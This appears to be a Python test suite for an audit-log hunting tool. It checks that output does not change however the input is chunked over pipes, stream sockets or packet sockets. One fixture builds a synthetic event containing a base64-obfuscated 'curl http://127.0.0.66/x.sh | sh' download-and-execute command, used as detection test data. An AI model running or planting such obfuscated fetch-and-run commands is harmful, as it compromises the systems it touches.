# SPDX-License-Identifier: GPL-3.0-or-later
"""The same bytes, cut and carried in any way, give the same output.

A SOCK_SEQPACKET socket hands the reader one packet a read(2), so cuts fall
exactly where a test puts them, whatever the timing.
"""

import base64
import os
import random
import socket
import subprocess
import tempfile
import threading
import time

import auditgen
from suite import (AUHUNT, DATA, HUNT, ROOT, SANITIZED, check_end,
                   environment, hunt, run)

PACKET_MAX = 8192


def carry(argv, chunks, kind, timeout=300):
    """Runs a program with chunks written to its stdin one by one."""
    if kind == "pipe":
        theirs, mine = os.pipe()
        write, close = (lambda data: os.write(mine, data),
                        lambda: os.close(mine))
    else:
        ours, other = socket.socketpair(
            socket.AF_UNIX, socket.SOCK_STREAM if kind == "stream"
            else socket.SOCK_SEQPACKET)
        theirs = other.detach()
        write, close = ours.sendall, ours.close
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        child = subprocess.Popen(argv, stdin=theirs, stdout=out, stderr=err,
                                 env=environment(), cwd=ROOT)
        os.close(theirs)
        watchdog = threading.Timer(timeout, child.kill)
        watchdog.start()
        try:
            for chunk in chunks:
                view = memoryview(chunk)
                while view:
                    done = write(view)
                    view = view[len(view) if done is None else done:]
        except (BrokenPipeError, ConnectionResetError):
            pass            # its exit code tells more
        close()
        child.wait()
        watchdog.cancel()
        out.seek(0)
        err.seek(0)
        check_end(argv, child.returncode, err.read())
        return out.read()


def stdout_of(fmt, drain_ms=0):
    """drain_ms=0: read as fast as packets come."""
    return [HUNT, "--stdout", "--format", fmt, "-o", "drain_ms=%d" % drain_ms]


def slices(data, size):
    return [data[at:at + size] for at in range(0, len(data), size)]


def block(serial, sec=1700000000):
    """A mixed stretch of stream; its length does not depend on serial."""
    payload = base64.b64encode(b"curl http://127.0.0.66/x.sh | sh")

    def line(kind, number, body):
        return auditgen.stamp(kind, number, sec, 0) + body

    lines = auditgen.exec_event(
        serial, [b"sh", b"-c", b"echo " + payload + b" | base64 -d | sh"],
        sec=sec)
    lines += [line("USER_LOGIN", serial + 1, b"pid=1 uid=0 auid=0 ses=1 "
                   b"msg='op=login acct=\"alice\" res=success'\x1dUID=\"r\"")]
    other = [line("SYSCALL", serial + 2, b"arch=c000003e syscall=42 "
                  b"success=yes exit=0 a0=3 items=0 ppid=1 pid=2 tty=pts0 "
                  b'ses=1 comm="curl" exe="/usr/bin/curl" key="net"'),
             line("SOCKADDR", serial + 2, b"saddr=020001BB7F000042"),
             line("EOE", serial + 2, b"")]
    second = auditgen.exec_event(serial + 3, [b"id"], sec=sec, enriched=True)
    # two events in between each other
    for number, extra in enumerate(other):
        second.insert(2 * number + 1, extra)
    return auditgen.join(lines + second + [b"no record"])


def first_difference(got, want):
    got, want = got.split(b"\n"), want.split(b"\n")
    for number, pair in enumerate(zip(got, want), 1):
        if pair[0] != pair[1]:
            at = len(os.path.commonprefix(pair))
            return "line %d, byte %d: %r, should be %r" % (
                number, at, pair[0][max(0, at - 60):at + 60],
                pair[1][max(0, at - 60):at + 60])
    return "%d lines, should be %d" % (len(got) - 1, len(want) - 1)


def same(got, want, where=""):
    return [] if got == want else [where + first_difference(got, want)]


def every_cut_alone():
    """One short event, a process for each cut."""
    data = auditgen.join(auditgen.exec_event(
        1, [b"sh", b"-c", b"id"], names=(b"/bin/sh",)))
    want = hunt(data, fmt="json")
    step = 9 if SANITIZED else 1
    for at in range(1, len(data), step):
        got = carry(stdout_of("json"), [data[:at], data[at:]], "packets")
        yield from same(got, want, "cut at %d: " % at)


def every_cut_in_one():
    """As many mixed blocks as one has bytes, each cut at another place."""
    size = len(block(1000000))
    chunks = []
    for at in range(1, size):
        data = block(1000000 + 4 * at, 1700000000 + at)
        assert len(data) == size
        chunks += [data[:at], data[at:]]
    want = hunt(b"".join(chunks), fmt="json")
    yield from same(carry(stdout_of("json"), chunks, "packets"), want)


def capture(name):
    with open(os.path.join(DATA, name + ".log"), "rb") as stream:
        return stream.read()


def one_byte(name):
    data = capture(name)
    want = hunt(path=os.path.join(DATA, name + ".log"), fmt="json")
    yield from same(carry(stdout_of("json"), slices(data, 1), "packets"),
                    want)


def random_sizes(name, fmt):
    data = capture(name)
    want = hunt(path=os.path.join(DATA, name + ".log"), fmt=fmt)
    for seed in range(5):
        dice = random.Random(seed)
        chunks, at = [], 0
        while at < len(data):
            size = dice.choice((1, 2, 7, 64, 511, 4096, PACKET_MAX))
            chunks.append(data[at:at + size])
            at += size
        yield from same(carry(stdout_of(fmt), chunks, "packets"), want,
                        "seed %d: " % seed)


def carriers(name, fmt):
    """Regular file, pipe, stream socket: as files and plugins are read."""
    data = capture(name)
    want = hunt(path=os.path.join(DATA, name + ".log"), fmt=fmt)
    for kind, size, drain_ms in (("pipe", 997, 20), ("pipe", 65536, 20),
                                 ("stream", 997, 0), ("stream", 65536, 20)):
        yield from same(carry(stdout_of(fmt, drain_ms), slices(data, size),
                              kind), want, "%s by %d: " % (kind, size))


def slow_reader():
    """Who reads the output, and how slowly, is not seen in it."""
    path = os.path.join(DATA, "story_vm61_enriched.log")
    want = hunt(path=path, fmt="json")
    with open(path, "rb") as stream:
        child = subprocess.Popen(stdout_of("json"), stdin=stream, cwd=ROOT,
                                 stdout=subprocess.PIPE, env=environment())
    time.sleep(0.5)
    got = b""
    while chunk := child.stdout.read(3000):
        got += chunk
        time.sleep(0.002)
    child.stdout.close()
    if child.wait() != 0:
        yield "exit %d" % child.returncode
    yield from same(got, want)


def tool():
    """auhunt reads its stdin the same way."""
    data = capture("tty_enriched")
    want = run([AUHUNT, "events", "--json", os.path.join(
        DATA, "tty_enriched.log")])
    for kind, size in (("packets", 1), ("packets", 997), ("pipe", 4096)):
        yield from same(carry([AUHUNT, "events", "--json", "-"],
                              slices(data, size), kind), want,
                        "%s by %d: " % (kind, size))


def last_line():
    """A stream that ends without a newline has lost nothing."""
    data = capture("tty_enriched").rstrip(b"\n")
    yield from same(hunt(data, fmt="json"), hunt(data + b"\n", fmt="json"))


def twice():
    """A replay is deterministic."""
    for name in ("story_nspawn_raw", "sessions_enriched"):
        path = os.path.join(DATA, name + ".log")
        for fmt in ("json", "hunt", "auoms"):
            yield from same(hunt(path=path, fmt=fmt),
                            hunt(path=path, fmt=fmt), name + ": ")


def cases():
    yield "every-cut-alone", every_cut_alone
    yield "every-cut-in-one", every_cut_in_one
    yield "one-byte/tty", lambda: one_byte("tty_enriched")
    yield "one-byte/sessions", lambda: one_byte("sessions_enriched")
    yield "one-byte/longexec", lambda: one_byte("longexec_enriched")
    for fmt in ("json", "hunt", "cee", "auoms"):
        yield ("random-sizes/" + fmt,
               lambda fmt=fmt: random_sizes("story_vm61_enriched", fmt))
    for name in sorted(os.listdir(DATA)):
        if name.endswith(".log"):
            yield ("carriers/" + name[:-4],
                   lambda name=name[:-4]: carriers(name, "json"))
    yield "slow-reader", slow_reader
    yield "tool", tool
    yield "last-line", last_line
    yield "twice", twice
